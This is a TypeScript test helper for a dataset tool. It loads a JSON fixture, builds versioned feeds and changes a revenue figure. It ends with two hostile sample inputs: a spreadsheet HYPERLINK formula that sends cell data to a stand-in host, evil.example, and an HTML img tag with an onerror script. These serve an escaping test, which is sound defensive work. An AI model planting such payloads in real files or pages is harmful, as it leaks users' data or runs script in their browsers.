import { readFileSync } from "node:fs";
import { join } from "node:path";
import { loadDataset } from "../../../src/core/parse-dataset";
import type { Dataset, Figure } from "../../../src/core/schema";
import { ROOT } from "../../helpers/bundled-dataset";

/** The dataset the tests' store starts from: the minimal fixture, version 1.0.0. */
export const FIXTURE_TEXT = readFileSync(join(ROOT, "tests/fixtures/datasets/minimal.json"), "utf8");

export function fixtureDataset(): Dataset {
  return loadDataset(FIXTURE_TEXT);
}

/** The fixture as a feed: `version`, then `edit` applied to a fresh copy. */
export function feed(version: string, edit: (dataset: Dataset) => void = () => undefined): string {
  const dataset = JSON.parse(FIXTURE_TEXT) as Dataset;
  dataset.meta.version = version;
  edit(dataset);
  return JSON.stringify(dataset, null, 2);
}

export function figure(dataset: Dataset, id: string): Figure {
  const found = dataset.figures.find((f) => f.id === id);
  if (found === undefined) throw new Error(`no figure ${id}`);
  return found;
}

/** OpenAI's revenue as 340亿美元 instead of 330亿美元: the change a real update makes. */
export function raiseRevenue(dataset: Dataset): void {
  const revenue = figure(dataset, "openai.revenue.2026");
  Object.assign(revenue, { value: 340, written: "340亿美元", source: { ...revenue.source, text: "340亿美元" } });
}

/** Valid data that must stay text: Excel would run it as a formula if it were written as one. */
export const FORMULA_TEXT = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
/** Valid data that must stay text: a page would run it if it were inserted as HTML. */
export const HTML_TEXT = "<img src=x onerror=alert(1)>";
